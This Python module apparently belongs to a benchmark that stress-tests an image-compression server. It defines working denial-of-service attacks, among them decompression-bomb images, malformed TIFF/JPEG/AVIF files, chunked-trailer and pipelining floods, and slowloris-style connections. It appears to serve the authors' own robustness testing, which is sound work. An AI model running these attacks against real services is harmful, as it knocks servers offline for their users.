"""Attackers: all that `benchmarks.attacks` does to a server, one function each.

The first line of a docstring says what is sent. Attacks with a `line` are those of the first
review, in its words; the others are their siblings.
"""

from __future__ import annotations

import asyncio
import hashlib
import random
import re
import socket
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable, Mapping
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

from benchmarks import hostile

MB = 10**6
OPEN = "held open"
CLOSED = "closed"
LIMIT = re.compile(r"limit (?:is|of) ([\d,_]+) pixels")
_SLICE = 1 << 18  # bytes that are sent at once
_KEPT = 4096  # bytes of an answer that are kept
_AT_THE_DOOR_SECONDS = 2.0  # a refusal that took longer is no refusal but a failure
_ESTABLISHED = 1  # of the kernel's states of a TCP connection


@dataclass(frozen=True, slots=True)
class Answer:
    """An answer to an attacker: its status, 0 when there was none, and how it begins."""

    status: int
    text: str = ""


class Connection:
    """One connection of an attacker, which counts what it sends."""

    def __init__(self, victim: Victim, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._victim = victim
        self._reader = reader
        self._writer = writer
        self._listening: asyncio.Task[Answer] | None = None

    def listen(self) -> None:
        """Read what comes, from now on and while other things are done."""
        self._listening = asyncio.create_task(self.answer())

    async def send(self, content: bytes) -> None:
        """Send all of it, as fast as it is taken.

        Raises:
            OSError: the server has closed the connection.
        """
        for at in range(0, len(content), _SLICE):
            part = content[at : at + _SLICE]
            self._writer.write(part)
            await self._writer.drain()
            self._victim.sent += len(part)

    async def answer(self) -> Answer:
        """Read until the server closes the connection."""
        kept = b""
        with suppress(OSError):
            while part := await self._reader.read(1 << 16):
                self._victim.received += len(part)
                kept = (kept + part)[:_KEPT]
        words = kept.split(maxsplit=2)
        status = int(words[1]) if len(words) > 1 and words[1].isdigit() else 0
        return Answer(status, kept.decode("latin-1"))

    def stop_reading(self) -> None:
        """Leave in the kernel's buffers whatever comes."""
        transport = self._writer.transport
        assert isinstance(transport, asyncio.ReadTransport)
        transport.pause_reading()

    def fate(self) -> str:
        """Tell what became of it: a status, or else whether the server has closed it."""
        if self._listening is not None and self._listening.done():
            return _fate(self._listening.result())
        facts = self._writer.get_extra_info("socket").getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)
        return OPEN if facts[0] == _ESTABLISHED else CLOSED

    def close(self) -> None:
        """Hang up without a farewell."""
        if self._listening is not None:
            self._listening.cancel()
        self._writer.transport.abort()


def _fate(answer: Answer) -> str:
    return str(answer.status or CLOSED)


@dataclass
class Victim:
    """The server under attack, and what became of the requests to it.

    Attributes:
        host: its address.
        port: its port.
        store: its directory of streams.
        hold_seconds: for which connections that do nothing are held.
        sent: bytes.
        received: bytes.
        answers: number of requests by status, or by what became of their connections.
    """

    host: str
    port: int
    store: Path
    hold_seconds: float = 40.0
    sent: int = 0
    received: int = 0
    answers: Counter[str] = field(default_factory=Counter)
    _connections: list[Connection] = field(default_factory=list)

    async def open(self) -> Connection:
        """Open a connection. Raises OSError when nobody listens."""
        reader, writer = await asyncio.open_connection(self.host, self.port)
        connection = Connection(self, reader, writer)
        self._connections.append(connection)
        return connection

    def head(self, target: str, headers: Mapping[str, str], *, method: str = "POST") -> bytes:
        """Write a request's head, without the empty line behind it."""
        lines = [f"{method} {target} HTTP/1.1", f"Host: {self.host}:{self.port}"]
        return "\r\n".join([*lines, *(f"{name}: {text}" for name, text in headers.items()), ""]).encode()

    async def request(
        self, target: str, body: bytes = b"", *, method: str = "POST", **headers: str
    ) -> Answer:
        """Send a request on a connection of its own, and take note of the answer's status.

        `headers` have underscores for hyphens: `content_type`.
        """
        named = {name.replace("_", "-").title(): text for name, text in headers.items()}
        named |= {"Connection": "close", "Content-Length": str(len(body))}
        return await self.exchange(self.head(target, named, method=method) + b"\r\n", body)

    async def exchange(self, *parts: bytes) -> Answer:
        """Send bytes on a connection of their own, and take note of the answer's status."""
        try:
            connection = await self.open()
        except OSError:
            self.answers["no connection"] += 1
            return Answer(0)
        sending = asyncio.create_task(_send_all(connection, parts))
        try:
            answer = await connection.answer()
        finally:
            sending.cancel()
        self.answers[_fate(answer)] += 1
        return answer

    async def together(self, requests: Iterable[Awaitable[Answer]]) -> None:
        """Do several at the same time."""
        await asyncio.gather(*requests)

    async def hold(self, connections: Iterable[Connection]) -> None:
        """Do nothing on connections for a while, and take note of what became of them."""
        await asyncio.sleep(self.hold_seconds)
        self.answers.update(connection.fate() for connection in connections)

    def put(self, content: bytes) -> str:
        """Put bytes into the store as if they were a stream, and return their id."""
        stream_id = hashlib.sha256(content).hexdigest()
        path = self.store / stream_id[:2] / f"{stream_id}.zgt"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        return stream_id

    def close(self) -> None:
        """Hang up on all connections."""
        for connection in self._connections:
            connection.close()
        self._connections.clear()


async def _send_all(connection: Connection, parts: Iterable[bytes]) -> None:
    with suppress(OSError):  # what the server says to it is read elsewhere
        for part in parts:
            await connection.send(part)


@dataclass(frozen=True, slots=True)
class Attack:
    """One way to harm a server.

    Attributes:
        run: does it.
        line: of the first review's table; empty for what nobody did before.
        large: it is the one large picture, which may have 2.5 GB.
        stop: whether SIGTERM is tried in the middle of it.
        descriptors: soft limit of the server's process; None leaves it.
    """

    run: Callable[[Victim], Awaitable[object]]
    line: str = ""
    large: bool = False
    stop: bool = False
    descriptors: int | None = None

    @property
    def sends(self) -> str:
        """The attack's bytes, in a few words."""
        return (self.run.__doc__ or "").partition("\n")[0].rstrip(".")


ATTACKS: dict[str, Attack] = {}


def attack(
    line: str = "", *, large: bool = False, stop: bool = False, descriptors: int | None = None
) -> Callable[[Callable[[Victim], Awaitable[object]]], Callable[[Victim], Awaitable[object]]]:
    """Add a function to `ATTACKS`, under its name with hyphens."""

    def add(run: Callable[[Victim], Awaitable[object]]) -> Callable[[Victim], Awaitable[object]]:
        name = run.__name__.replace("_", "-")
        ATTACKS[name] = Attack(run, line, large=large, stop=stop, descriptors=descriptors)
        return run

    return add


# Pictures that are larger than their files

_COSTLY = "codec=auto&effort=9&report=psnr,ms-ssim"


async def _insist(victim: Victim, target: str, body: bytes) -> Answer:
    """Send a picture until there is room: a large one has to meet a moment without others."""
    while (answer := await victim.request(target, body)).status == 429:
        await asyncio.sleep(0.002)
    return answer


async def _largest(victim: Victim, target: str) -> None:
    """Send a flat picture, and smaller ones until one is accepted."""
    pixels = 100 * MB
    while pixels > MB:
        begun = time.monotonic()
        answer = await _insist(victim, target, hostile.flat_webp(pixels))
        refused = answer.status in {413, 422} or (
            answer.status == 503 and time.monotonic() < begun + _AT_THE_DOOR_SECONDS
        )
        if not refused:
            return
        stated = LIMIT.search(answer.text)
        limit = int(re.sub(r"\D", "", stated[1])) if stated else pixels
        pixels = limit if limit < pixels else pixels // 2


@attack("a 38-byte WebP of 100 flat megapixels", large=True, stop=True)
async def flat_webp(victim: Victim) -> None:
    """The largest flat WebP that is accepted, from 100 megapixels down, 28 bytes."""
    await _largest(victim, "/compress?bpp=0.15")


@attack("the same with codec=auto&effort=9&report=...", large=True, stop=True)
async def flat_webp_auto(victim: Victim) -> None:
    """The same with codec=auto, effort=9 and both reports."""
    await _largest(victim, f"/compress?bpp=0.3&{_COSTLY}")


@attack(large=True, stop=True)
async def flat_webp_crowd(victim: Victim) -> None:
    """Eight flat WebPs of 40 megapixels at once."""
    body = hostile.flat_webp(40 * MB)
    await victim.together(victim.request(f"/compress?quality={quality}", body) for quality in range(8))


@attack()
async def flat_webp_small_auto(victim: Victim) -> None:
    """Forty flat WebPs of 1 megapixel with codec=auto, effort=9 and both reports."""
    body = hostile.flat_webp(MB)
    await victim.together(
        victim.request(f"/compress?bpp=0.{number}&{_COSTLY}", body) for number in range(10, 50)
    )


@attack(large=True)
async def flat_png(victim: Victim) -> None:
    """A flat PNG of 100 megapixels with one bit each."""
    await _insist(victim, "/compress?bpp=0.15", hostile.flat_png(100 * MB))


@attack()
async def enhance_flat_webp(victim: Victim) -> None:
    """The largest flat WebP to /enhance."""
    await _largest(victim, "/enhance")


@attack(large=True)
async def encode_flat_webp(victim: Victim) -> None:
    """The largest flat WebP to /encode, as AVIF."""
    await _largest(victim, "/encode?format=avif&max_bytes=100000000")


@attack()
async def encode_crowd(victim: Victim) -> None:
    """Forty flat WebPs of 1 megapixel to /encode, as AVIF, with both reports."""
    body = hostile.flat_webp(MB)
    target = "/encode?format=avif&max_bytes={}&report=psnr,ms-ssim"
    await victim.together(victim.request(target.format(MB + number), body) for number in range(40))


# Messages that make the event loop work


@attack('/allocate with 4 MB of {"ids":[1,1,...]}', stop=True)
async def wrong_ids(victim: Victim) -> None:
    """4 MB of {"ids":[1,1,...]} to /allocate."""
    await victim.request(
        "/allocate?budget_bpp=0.3", hostile.wrong_ids(4 * MB), content_type="application/json"
    )


@attack("report=a,a,... in a URL")
async def long_report(victim: Victim) -> None:
    """A URL of 60 kB with report=a,a,..., twenty times."""
    target = "/compress?bpp=0.3&report=" + "a," * 30_000 + "a"
    for _ in range(20):
        await victim.request(target, hostile.flat_webp(64))


@attack()
async def right_ids(victim: Victim) -> None:
    """400,000 ids of streams that are not stored to /allocate, 27 MB."""
    body = hostile.right_ids(400_000)
    await victim.request("/allocate?budget_bpp=0.3", body, content_type="application/json")


@attack()
async def nested_json(victim: Victim) -> None:
    """JSON of 1,000,000 lists in lists to /allocate."""
    body = hostile.nested_json(1_000_000)
    await victim.request("/allocate?budget_bpp=0.3", body, content_type="application/json")


@attack()
async def many_parameters(victim: Victim) -> None:
    """URLs of 60 kB with 12,000 parameters, twenty times."""
    target = "/compress?" + "&".join(f"{number:x}" for number in range(12_000))
    for _ in range(20):
        await victim.request(target, hostile.flat_webp(64))


@attack("multipart with charset=punycode, a field of 1 MB", stop=True)
async def punycode_form(victim: Victim) -> None:
    """A multipart body with charset=punycode and a field of 1 MB."""
    body = hostile.form(("name", b"a" * (1 << 20)))
    await victim.request(
        "/compress?bpp=0.3", body, content_type="multipart/form-data; boundary=x; charset=punycode"
    )


@attack("multipart with charset=undefined")
async def undefined_form(victim: Victim) -> None:
    """Multipart bodies with charset=undefined, base64, idna and utf-7."""
    body = hostile.form(("name", b"a"), ("file", hostile.flat_webp(64)))
    for charset in ("undefined", "base64", "idna", "utf-7", "unicode_escape"):
        await victim.request(
            "/compress?bpp=0.3", body, content_type=f"multipart/form-data; boundary=x; charset={charset}"
        )


@attack()
async def many_parts(victim: Victim) -> None:
    """A multipart body of 500,000 parts without content, 29 MB."""
    body = hostile.form(*[("f", b"")] * 500_000)
    await victim.request("/compress?bpp=0.3", body, content_type="multipart/form-data; boundary=x")


@attack()
async def many_files(victim: Victim) -> None:
    """A multipart body of 10,000 files of 28 bytes to /allocate."""
    body = hostile.form(*[("file", hostile.flat_webp(MB))] * 10_000)
    await victim.request("/allocate?budget_bpp=0.3", body, content_type="multipart/form-data; boundary=x")


@attack()
async def long_part_header(victim: Victim) -> None:
    """A multipart body whose first part has a header of 60 MB."""
    body = b"--x\r\nContent-Disposition: form-data; " + b"a" * (60 * MB)
    await victim.request("/compress?bpp=0.3", body, content_type="multipart/form-data; boundary=x")


@attack("trailers without end", stop=True)
async def endless_trailers(victim: Victim) -> None:
    """256 MB of trailers behind a chunked body."""
    head = victim.head("/compress?bpp=0.3", {"Transfer-Encoding": "chunked"})
    webp = hostile.flat_webp(64)
    body = f"\r\n{len(webp):x}\r\n".encode() + webp + b"\r\n0\r\n"
    trailers = (b"a: b\r\n" * 50_000 for _ in range(900))
    await victim.exchange(head + body, *trailers)


@attack("headers pipelined behind a slow request", stop=True)
async def pipelined_headers(victim: Victim) -> None:
    """256 MB of headers behind a request that takes seconds."""
    webp = hostile.flat_webp(4 * MB)
    head = victim.head("/compress?bpp=0.3&effort=5", {"Content-Length": str(len(webp))})
    headers = (b"a: b\r\n" * 50_000 for _ in range(900))
    await victim.exchange(head + b"\r\n" + webp + victim.head("/livez", {}, method="GET"), *headers)


@attack()
async def pipelined_requests(victim: Victim) -> None:
    """1,000,000 requests for /livez on one connection, of which no answer is read, 40 MB."""
    connection = await victim.open()
    connection.stop_reading()
    one = victim.head("/livez", {}, method="GET") + b"\r\n"
    with suppress(OSError):
        await asyncio.wait_for(_send_all(connection, [one * 10_000] * 100), victim.hold_seconds)
    victim.answers[connection.fate()] += 1


@attack()
async def tiny_body_chunks(victim: Victim) -> None:
    """A chunked body of 16 MB in chunks of one byte, 96 MB."""
    head = victim.head("/compress?bpp=0.3", {"Transfer-Encoding": "chunked", "Connection": "close"})
    chunks = (b"1\r\na\r\n" * 100_000 for _ in range(160))
    await victim.exchange(head + b"\r\n", *chunks, b"0\r\n\r\n")


@attack()
async def long_chunk_extension(victim: Victim) -> None:
    """A chunked body whose first chunk has an extension of 256 MB."""
    head = victim.head("/compress?bpp=0.3", {"Transfer-Encoding": "chunked"})
    await victim.exchange(head + b"\r\n1;", *(b"a" * 300_000 for _ in range(900)))


@attack()
async def many_ranges(victim: Victim) -> None:
    """Twenty requests for 10,000 ranges of a stored stream of 16 MB."""
    stream_id = victim.put(random.Random(1).randbytes(16 * MB))
    ranges = "bytes=" + ",".join(f"{number}-" for number in range(10_000))
    await victim.together(
        victim.request(f"/bitstreams/{stream_id}", method="GET", range=ranges) for _ in range(20)
    )


@attack()
async def long_accept(victim: Victim) -> None:
    """Twenty requests with 60 kB of Accept and If-None-Match."""
    accept = ",".join(f"image/a;q=0.{number % 900 + 100}" for number in range(1_600))
    tags = ",".join(f'"{number}"' for number in range(3_000))
    for _ in range(20):
        await victim.request(f"/decompress/{64 * '0'}", method="GET", accept=accept, if_none_match=tags)


# Files that make an image thread work


async def _twice(victim: Victim, target: str, body: bytes) -> None:
    """Send a file twice: there are as many image threads."""
    await victim.together(victim.request(target, body) for _ in range(2))


@attack("an AVIF with an endless LEB128 to /enhance, 2 x 1 MB", stop=True)
async def endless_number_avif(victim: Victim) -> None:
    """Two AVIFs with a LEB128 of 1 MB to /enhance."""
    await _twice(victim, "/enhance", hostile.endless_number_avif(MB))


@attack(stop=True)
async def tiny_units_avif(victim: Victim) -> None:
    """Two AVIFs of 30 million empty units to /enhance, 60 MB each."""
    await _twice(victim, "/enhance", hostile.tiny_units_avif(30 * MB))


@attack()
async def tiny_boxes_avif(victim: Victim) -> None:
    """Two AVIFs of 7 million empty boxes to /enhance, 56 MB each."""
    await _twice(victim, "/enhance", hostile.tiny_boxes_avif(7 * MB))


@attack("progressive JPEG with thousands of scans, 2 x 1.4 MB", stop=True)
async def many_scans_jpeg(victim: Victim) -> None:
    """Two progressive JPEGs of 41,000 scans, 1.4 MB each."""
    await _twice(victim, "/compress?bpp=0.3", hostile.many_scans_jpeg(4096, 41_000))


@attack("JPEG of small Exif segments, 64 MB", stop=True)
async def exif_jpeg(victim: Victim) -> None:
    """Two JPEGs of 150,000 Exif segments, 66 MB each."""
    await _twice(victim, "/compress?bpp=0.3", hostile.exif_jpeg(66 * MB, 150_000))


@attack()
async def tiny_segments_jpeg(victim: Victim) -> None:
    """Two JPEGs of 16 million empty comments, 64 MB each."""
    await _twice(victim, "/compress?bpp=0.3", hostile.segments_jpeg(0xFE, b"", 16 * MB))


@attack()
async def fill_bytes_jpeg(victim: Victim) -> None:
    """Two JPEGs of 64 MB of fill bytes."""
    await _twice(victim, "/compress?bpp=0.3", hostile.fill_bytes_jpeg(64 * MB))


@attack()
async def lut_profile_jpeg(victim: Victim) -> None:
    """Two JPEGs whose colour profile is one table of 14.7 MB."""
    await _twice(victim, "/compress?bpp=0.3", hostile.icc_jpeg(hostile.lut_profile(170)))


@attack("plain PPM of comments, 4 MB", stop=True)
async def comments_ppm(victim: Victim) -> None:
    """Two plain PPMs of comments, 4 MB each."""
    await _twice(victim, "/compress?bpp=0.3", hostile.comments_ppm(4 * MB))


@attack("alpha of two values in noise", large=True, stop=True)
async def two_alphas_png(victim: Victim) -> None:
    """A large PNG, 16 megapixels, whose alpha is two values at random, 2.4 MB."""
    await victim.request("/compress?bpp=0.3", hostile.two_alphas_png(4_000))


@attack()
async def tiny_chunks_png(victim: Victim) -> None:
    """Two PNGs of 5 million empty chunks, 60 MB each."""
    await _twice(victim, "/compress?bpp=0.3", hostile.tiny_chunks_png(5 * MB))


@attack()
async def profile_bomb_png(victim: Victim) -> None:
    """Two PNGs whose colour profile inflates to 500 MB, 2 MB each."""
    await _twice(victim, "/compress?bpp=0.3", hostile.profile_bomb_png(500))


@attack()
async def text_bombs_png(victim: Victim) -> None:
    """Two PNGs of 10,000 texts that inflate to 1 MB each, 46 MB each."""
    await _twice(victim, "/compress?bpp=0.3", hostile.text_bombs_png(10_000, 1))


@attack()
async def tiny_blocks_gif(victim: Victim) -> None:
    """Two GIFs with a comment of 30 million blocks of a byte, 60 MB each."""
    await _twice(victim, "/compress?bpp=0.3", hostile.tiny_blocks_gif(30 * MB))


@attack(stop=True)
async def shared_values_tiff(victim: Victim) -> None:
    """Two TIFFs with 30,000 tags of the same 1 MB, 1.4 MB each."""
    await _twice(victim, "/compress?bpp=0.3", hostile.shared_values_tiff(30_000, MB))


@attack()
async def pages_tiff(victim: Victim) -> None:
    """Two TIFFs of 500,000 pages, 57 MB each."""
    await _twice(victim, "/compress?bpp=0.3", hostile.pages_tiff(500_000))


@attack()
async def looping_tiff(victim: Victim) -> None:
    """Two TIFFs whose next page is the first."""
    await _twice(victim, "/compress?bpp=0.3", hostile.looping_tiff())


@attack()
async def tiny_runs_bmp(victim: Victim) -> None:
    """Two BMPs of 32 million runs of no pixel, 64 MB each."""
    await _twice(victim, "/compress?bpp=0.3", hostile.tiny_runs_bmp(64 * MB))


# Connections that do nothing


@attack("100 clients that ask for a 16 MB stream and do not read")
async def slow_readers(victim: Victim) -> None:
    """100 requests for a stored stream of 16 MB, of which nothing is read, and one that is."""
    target = f"/bitstreams/{victim.put(random.Random(1).randbytes(16 * MB))}"
    await victim.request(target, method="GET")
    connections = []
    for _ in range(100):
        connection = await victim.open()
        connection.stop_reading()
        await connection.send(victim.head(target, {}, method="GET") + b"\r\n")
        connections.append(connection)
    await victim.hold(connections)


async def _silent_bodies(victim: Victim, begin: bytes, headers: Mapping[str, str]) -> None:
    """Send 59 of 60 MB of forty bodies."""
    head = victim.head("/compress?bpp=0.3", {**headers, "Content-Length": str(60 * MB)})
    body = begin + bytes(59 * MB - len(begin))
    connections = [await victim.open() for _ in range(40)]
    for connection in connections:
        connection.listen()
    sending = (_send_all(connection, [head + b"\r\n", body]) for connection in connections)
    with suppress(TimeoutError):  # a server may refuse to read on
        await asyncio.wait_for(asyncio.gather(*sending), victim.hold_seconds)
    await victim.hold(connections)


@attack("40 bodies of 59 of 60 MB, then silence", stop=True)
async def silent_bodies(victim: Victim) -> None:
    """40 bodies of which 59 of 60 MB are sent, and then nothing."""
    await _silent_bodies(victim, b"", {})


@attack("or as much in temporary files")
async def silent_forms(victim: Victim) -> None:
    """40 multipart bodies of which 59 of 60 MB are sent, and then nothing."""
    begin = hostile.form(("file", b"")).removesuffix(b"\r\n--x--\r\n")
    await _silent_bodies(victim, begin, {"Content-Type": "multipart/form-data; boundary=x"})


@attack("300 idle sockets", descriptors=256)
async def idle_sockets(victim: Victim) -> None:
    """300 connections without a byte, opened again when closed; soft limit 256."""
    held: list[Connection] = []
    end = time.monotonic() + victim.hold_seconds
    while time.monotonic() < end:
        held = [connection for connection in held if connection.fate() == OPEN]
        with suppress(OSError, TimeoutError):
            while len(held) < 300:
                held.append(await asyncio.wait_for(victim.open(), 1))
                victim.answers["opened"] += 1
        await asyncio.sleep(0.5)
    victim.answers.update(connection.fate() for connection in held)


async def _trickles(victim: Victim, begin: bytes, content: bytes) -> None:
    """Send bytes of which one comes a second, on 200 connections."""

    async def trickle() -> Connection:
        connection = await victim.open()
        connection.listen()
        with suppress(OSError):
            await connection.send(begin)
            for byte in content[: int(victim.hold_seconds)]:
                await connection.send(bytes([byte]))
                await asyncio.sleep(1)
        return connection

    connections = await asyncio.gather(*(trickle() for _ in range(200)))
    victim.answers.update(connection.fate() for connection in connections)


@attack()
async def slow_bodies(victim: Victim) -> None:
    """200 bodies of a byte a second."""
    head = victim.head("/compress?bpp=0.3", {"Content-Length": "1000"})
    await _trickles(victim, head + b"\r\n", bytes(1000))


@attack()
async def slow_heads(victim: Victim) -> None:
    """200 requests of which the head comes by a byte a second."""
    await _trickles(victim, b"", victim.head("/livez", {}, method="GET"))
